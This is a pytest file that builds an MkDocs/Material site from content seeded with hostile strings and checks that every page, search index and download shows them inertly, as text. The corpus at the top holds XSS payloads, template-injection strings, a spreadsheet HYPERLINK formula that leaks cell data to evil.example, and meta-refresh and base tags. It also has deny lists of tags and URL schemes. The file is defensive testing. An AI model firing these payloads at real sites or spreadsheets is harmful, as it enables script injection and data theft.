"""One real `mkdocs build` of a content folder whose every text field holds one of the nastiest
strings we know (template syntax, </script>, HTML, formula prefixes, bidirectional overrides,
5,000-character words, </style> and url(file:///…), javascript: links in Markdown), with the
downloads on: what MkDocs and Material add around the pages (<title>, meta description, the
header, the sitemap), the map scripts, the Pagefind index and every download show the text as
text, and nothing in them runs.

Not a Hypothesis test: a fixed corpus, because a build with the PDF takes a minute.
"""

from __future__ import annotations

import gzip
import json
import re
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator import urls
from tests.helpers import build, map_data

from .pipeline import FORMULA_START, csv_rows, docx_units, norm, small_jpeg, write_content, xlsx_cells, xlsx_xml_problems
from .strategies import CANARY, Content, every_hole, expected

CORPUS = [
    "SSTI{{ 7*7 }}{{ 'zq' ~ 'xj' }}",
    "</script><script>alert('xss-script')</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert('xss-title')</script>",
    "</style><style>body{display:none}</style>",
    "url(file:///etc/passwd) @import url(//evil.example/x.css);",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-1+1",
    "@SUM(A1)",
    "\u202eevil\u202c 反向 \u2066iso\u2069",
    "长" * 5000,  # a 5,000-character word without spaces
    "W" * 5000,
    "{% raw %}未闭合 {# comment",
    '[click](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil.example/></iframe><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "&lt;b&gt;escaped&amp;amp;",
    "<!-- comment --> ]]> <![CDATA[x]]>",
    "line\u2028sep\u2029end",
    "${'zq'+'xj'} `${alert(1)}`",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "\x1b[31mred\x1b[0m \x0bvt",
]
# shown wherever a short text goes (the corpus' long words would make every title 5,000 wide)
SECTIONS = ["=1+1", "</span><script>alert(2)</script>", "{{ 7*7 }}", "\u202e1.2"]


# A text that reads like HTML entities and tags, found by a word of its own: search excerpts show it
# as written (browser test below).
ENTITIES = {"zh": "斑胸草雀 &copy; R&D &amp;amp; <i>斜体</i> 5 > 3", "en": "Zebrafinch &copy; R&D &amp;amp; <i>it</i> 5 > 3"}
ENTITIES_HOLE = "excellent/hostile-plain.yaml:summary"


def corpus_content() -> Content:
    values = []
    for number, (_name, _loc, hole) in enumerate(every_hole()):
        if hole.kind == "words":
            values.append(SECTIONS[number % len(SECTIONS)])
        else:
            values.append({"zh": CORPUS[number % len(CORPUS)], "en": CORPUS[(number + 7) % len(CORPUS)]})
    content = Content(values)
    content.values[Content.hole(ENTITIES_HOLE)] = ENTITIES
    return content


@pytest.fixture(scope="module")
def built(tmp_path_factory, monkeypatch_module):
    root = tmp_path_factory.mktemp("hostile-build")
    image = root / "image.jpg"
    small_jpeg(image)
    content = corpus_content()
    folder = write_content(root / "project", content.yaml_texts(), image)
    monkeypatch_module.setenv("SHOWCASE_SITE_URL", "https://showcase.example/")
    monkeypatch_module.setenv("SOURCE_DATE_EPOCH", "1717200000")
    result = build(folder, root / "site", root / "cache")
    assert result.returncode == 0, result.stdout + result.stderr[-5000:]
    assert "Traceback" not in result.stderr
    return root / "site", content, result


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


def shown(content: Content, where: str) -> tuple[str, str]:
    """(Chinese, English) of the hole "file:field" as pages show them (English falls back)."""
    zh, en = content.shown(Content.hole(where))
    return zh, en or zh


def _page(site: Path, route: str, lang: str) -> BeautifulSoup:
    return BeautifulSoup((site / urls.page_url(route, lang) / "index.html").read_text(encoding="utf-8"), "html.parser")


ENTRY_PAGES = [  # (route, the hole of its title, the hole of its description)
    (urls.case("hostile-case"), "excellent/hostile-case.yaml:title", "excellent/hostile-case.yaml:summary"),
    (urls.case("hostile-plain"), "excellent/hostile-plain.yaml:title", "excellent/hostile-plain.yaml:summary"),
    (urls.site("hostile-site"), "competition/hostile-site.yaml:name", None),
    (urls.page("about"), "pages/about.yaml:title", None),
    (urls.exhibition("hostile-exhibition"), "exhibitions/hostile-exhibition.yaml:title",
     "exhibitions/hostile-exhibition.yaml:subtitle"),
]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_titles_descriptions_and_headings_are_text(built, lang):
    site, content, _ = built
    index = 0 if lang == "zh" else 1
    for route, title_hole, description_hole in ENTRY_PAGES:
        page = _page(site, route, lang)
        title = shown(content, title_hole)[index]
        assert norm(page.title.get_text()).startswith(norm(title)), (route, page.title.get_text()[:200])
        assert norm(page.h1.get_text()) == norm(title), route
        topic = page.select("header .md-header__topic .md-ellipsis")[-1]
        assert norm(topic.get_text()) == norm(title), route
        if description_hole:
            description = page.find("meta", attrs={"name": "description"})["content"]
            assert norm(description) == norm(shown(content, description_hole)[index]), route
        # the link preview's title and the schema.org data hold the same text, as text
        assert norm(page.find("meta", attrs={"property": "og:title"})["content"]) == norm(title), route
        data = json.loads(page.find("script", attrs={"type": "application/ld+json"}).string)
        assert norm(data["name"]) == norm(title), route


def _html_files(site: Path):
    return [p for p in site.rglob("*.html") if "pagefind" not in p.parts]


# elements that no page of this site has, and attributes that run code
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "math"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "background", "srcset", "xlink:href"}


def test_nothing_the_text_says_takes_effect_on_any_page(built):
    site, _content, _ = built
    files = _html_files(site)
    assert len(files) > 60
    for path in files:
        page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        where = path.relative_to(site).as_posix()
        assert not page.find(FORBIDDEN_TAGS), (where, page.find(FORBIDDEN_TAGS))
        for meta in page.find_all("meta"):
            assert meta.get("http-equiv") is None, where
        for element in page.find_all(True):
            for name, value in element.attrs.items():
                value = " ".join(value) if isinstance(value, list) else value
                assert not name.startswith("on"), (where, element.name, name)
                if name in URL_ATTRIBUTES:
                    assert "evil.example" not in value and not re.match(r"\s*(javascript|data|vbscript|file):", value, re.I), \
                        (where, element.name, name, value[:200])
        for script in page.find_all("script"):
            source = script.string or ""
            if script.get("type") == "application/ld+json":  # schema.org data, not code: texts as JSON strings
                assert "<" not in source and isinstance(json.loads(source), dict), (where, source[:300])
                continue
            assert "alert(" not in source and "evil.example" not in source, (where, source[:300])
            src = script.get("src")
            assert src is None or not re.match(r"(https?:)?//", src), (where, src)
        for style in page.find_all("style"):
            assert "display:none" not in (style.string or "") and "evil.example" not in (style.string or ""), where
        text = path.read_text(encoding="utf-8")
        assert CANARY not in text and "SSTI49" not in text, where


def test_the_sitemap_lists_the_pages_and_no_text(built):
    site, content, _ = built
    tree = ET.parse(site / "sitemap.xml")
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    locs = [loc.text for loc in tree.getroot().findall("s:url/s:loc", ns)]
    assert "https://showcase.example/cases/hostile-case/" in locs
    assert all(re.fullmatch(r"https://showcase\.example/[a-z0-9/-]*", loc) for loc in locs), locs
    raw = (site / "sitemap.xml").read_text(encoding="utf-8")
    assert "<script" not in raw and CANARY not in raw


def test_map_scripts_carry_the_names_as_data(built):
    site, content, _ = built
    titles = {"hostile-case": "excellent/hostile-case.yaml:title", "hostile-plain": "excellent/hostile-plain.yaml:title",
              "hostile-site": "competition/hostile-site.yaml:name"}
    seen = 0
    for script in site.rglob("map.js"):
        text = script.read_text(encoding="utf-8")
        assert CANARY not in text and "SSTI49" not in text and "</script" not in text.lower()
        lang = "en" if script.relative_to(site).parts[0] == "en" else "zh"
        for place in map_data(text)["places"]:
            assert place["title"] == shown(content, titles[place["entry"]])[0 if lang == "zh" else 1]
            popup = BeautifulSoup(place["popup"], "html.parser")
            assert norm(popup.strong.get_text()) == norm(place["title"])
            assert not popup.find(["script", "img", "iframe", "svg"], attrs={"onerror": True}) and not popup.find("script")
            seen += 1
    assert seen >= 6


def _fragments(site: Path) -> list[dict]:
    out = []
    for path in (site / "pagefind" / "fragment").glob("*.pf_fragment"):
        raw = gzip.decompress(path.read_bytes())
        assert raw.startswith(b"pagefind_dcd")
        out.append(json.loads(raw[len(b"pagefind_dcd"):]))
    return out


def test_the_search_index_holds_the_text_as_text(built):
    from generator.search.records import unpair

    site, content, _ = built
    fragments = _fragments(site)
    assert fragments
    by_url = {f["url"]: f for f in fragments}
    for route, title_hole, _description in ENTRY_PAGES:
        for index, lang in enumerate(("zh", "en")):
            fragment = by_url["/" + urls.page_url(route, lang)]
            title = shown(content, title_hole)[index]
            assert fragment["meta"]["title"] == title, route
            # Pagefind keeps the page's text as text (its script escapes < and > for excerpts)
            body = norm(unpair(fragment["content"]))  # Chinese is indexed as pairs (records.split_han)
            assert norm(title) in body, route
    for fragment in fragments:
        assert CANARY not in json.dumps(fragment, ensure_ascii=False)


def test_every_download_shows_the_text_as_text(built):
    site, content, _ = built
    downloads = site / "downloads"
    names = sorted(p.name for p in downloads.iterdir())
    assert {"excellent-cases.pdf", "excellent-cases.docx", "entries.xlsx", "cases.csv", "entries.json", "entries.geojson"} <= set(names)
    title_zh, title_en = shown(content, "excellent/hostile-case.yaml:title")

    workbook = downloads / "entries.xlsx"
    assert not xlsx_xml_problems(workbook)
    cells = [cell for cell in xlsx_cells(workbook).values() if isinstance(cell.value, str)]
    assert title_zh in [c.value for c in cells]
    for cell in cells:
        assert cell.data_type == "s"
        if cell.value.startswith(FORMULA_START):
            assert cell.quotePrefix, cell.value

    for name in ("cases.csv", "competition-sites.csv", "milestones.csv"):
        for row in csv_rows(downloads / name)[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (name, cell[:80])
    data = json.loads((downloads / "entries.json").read_text(encoding="utf-8"))
    case = next(c for c in data["cases"] if c["id"] == "hostile-case")
    assert case["title"] == {"zh": title_zh, "en": title_en}
    geo = json.loads((downloads / "entries.geojson").read_text(encoding="utf-8"))
    assert title_zh in [f["properties"]["title_zh"] for f in geo["features"]]

    units = [norm(u) for u in docx_units(downloads / "excellent-cases.docx")]
    assert any(norm(title_zh) in u for u in units)
    with zipfile.ZipFile(downloads / "excellent-cases.docx") as archive:
        document = archive.read("word/document.xml").decode("utf-8")
    assert "<w:hyperlink" not in document and CANARY not in document
    assert len(re.findall(r"<w:instrText", document)) == 1, "one field: the table of contents"

    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(downloads / "excellent-cases.pdf"), "-"],
                          capture_output=True, text=True, check=True).stdout
    assert CANARY not in text and "SSTI49" not in text
    flat = re.sub(r"\s+", "", text)
    for hole in ("excellent/hostile-case.yaml:title", "excellent/hostile-plain.yaml:title"):
        for value in shown(content, hole):
            short = re.sub(r"\s+", "", value)
            if len(short) < 200 and value.isprintable() and not re.search(r"[\u202a-\u202e\u2066-\u2069]", value):
                assert short in flat, (hole, value)


def test_the_build_log_shows_no_traceback_and_no_escape_sequences(built):
    _site, _content, result = built
    log = result.stdout + result.stderr
    assert "Traceback" not in log
    assert "\x1b[31m" not in log, "a control character from the content reached the terminal"


def test_the_corpus_is_what_the_pages_show(built):
    """The corpus survived the loader as the checks above expect (control characters removed)."""
    _site, content, _ = built
    assert expected("\x1b[31mred\x1b[0m \x0bvt") == "[31mred[0m vt"
    assert shown(content, "excellent/hostile-case.yaml:title")[0] in CORPUS


# --- in a browser: the search box shows what the index holds as text ------------------------------

@pytest.fixture(scope="module")
def hostile_server(built):
    import functools
    import http.server
    import threading

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args, **kwargs):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(built[0])))
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()


@pytest.mark.browser
@pytest.mark.parametrize("lang, query", [("zh", "斑胸草雀"), ("en", "Zebrafinch")])
def test_search_results_show_the_text_as_written(built, hostile_server, lang, query):
    """Pagefind escapes only < and > in its excerpts: the search box must undo exactly that, so
    that "&copy;" or "&amp;amp;" in a text is shown as typed, not as © or &amp;, and <i> as text."""
    import shutil

    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium") or "/usr/bin/chromium"
    if not Path(chromium).exists():
        pytest.fail("Chromium is missing: run scripts/setup.sh --browser (installs Debian's chromium)")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        try:
            page = browser.new_page()
            page.goto(hostile_server + ("about/" if lang == "zh" else "en/about/"))
            page.wait_for_selector(".sc-search:not([hidden])")
            page.click(".sc-search__open")
            page.wait_for_selector("#sc-search-dialog[open]")
            page.fill("#sc-search-input", query)
            page.wait_for_selector(".sc-search__hit")
            excerpts = page.eval_on_selector_all(".sc-search__excerpt", "els => els.map(e => e.textContent)")
            markup = page.eval_on_selector_all(".sc-search__hit *", "els => els.filter(e => !['SPAN','MARK'].includes(e.tagName)).length")
            dialogs: list = []
            page.on("dialog", lambda d: dialogs.append(d.message))
        finally:
            browser.close()
    assert markup == 0 and not dialogs
    # Chinese excerpts are a few characters either side of the match; English ones whole sentences
    text = "斑胸草雀 &copy; R&D &amp;" if lang == "zh" else ENTITIES["en"]
    assert any(text in norm(e) for e in excerpts), excerpts
